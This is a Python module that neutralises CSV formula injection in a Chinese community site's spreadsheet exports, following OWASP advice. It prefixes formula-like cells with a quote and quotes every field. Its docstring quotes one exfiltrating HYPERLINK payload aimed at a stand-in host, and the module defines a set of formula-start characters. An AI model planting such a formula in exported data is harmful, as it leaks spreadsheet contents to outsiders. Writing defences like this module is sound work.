"""Cells of a CSV file that a spreadsheet opens without running anything.

Staff open the community's export in Excel or WPS, which evaluate a cell that
begins with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or a carriage return,
one that does so further on): a topic titled ``=HYPERLINK("http://x/?"&A1,"详情")``
would send the sheet's contents away when clicked. As OWASP's "CSV Injection"
advises, such a cell is written with a single quote in front, which the
spreadsheet shows as text and does not keep; the full-width forms (``＝＋－＠``),
which Chinese input methods type and some spreadsheets also read as formulas,
are treated the same. Every field is quoted. Numbers are written as numbers by
the caller (a count is never a string here), so a negative figure is never
mistaken for a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping

FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")


def safe_cell(value: object) -> object:
    """``value`` as a spreadsheet will show it and never evaluate it."""
    if isinstance(value, str) and value and value[0] in FORMULA_STARTS:
        return "'" + value
    return value


def csv_bytes(columns: list[str], rows: Iterable[Mapping[str, object]]) -> bytes:
    """UTF-8 CSV (with a byte-order mark, so spreadsheets read the Chinese as UTF-8) of
    ``rows`` under ``columns``, every text cell neutralised by :func:`safe_cell`."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    writer.writerow([safe_cell(column) for column in columns])
    for row in rows:
        writer.writerow([safe_cell(row.get(column, "")) for column in columns])
    return out.getvalue().encode("utf-8")
